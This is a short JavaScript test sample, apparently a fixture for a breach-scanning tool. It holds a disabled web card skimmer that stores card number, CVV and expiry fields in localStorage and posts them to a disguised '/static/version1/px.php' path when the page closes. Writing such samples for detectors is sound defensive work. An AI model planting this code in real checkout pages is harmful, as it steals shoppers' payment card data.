/* synthetic test sample for breachscan: staging skimmer shape - copies card fields into
 * localStorage on every change and ships the stored values later. Inert (`if (false)`). */
if (false) {
  jQuery(document).on("change", "#cc_number, #cc_cvv, #cc_exp_month", function () {
    localStorage.setItem(this.id, this.value);
  });
  window.addEventListener("pagehide", function () {
    fetch("/static/version1/px.php", { method: "POST", body: JSON.stringify(localStorage) });
  });
}
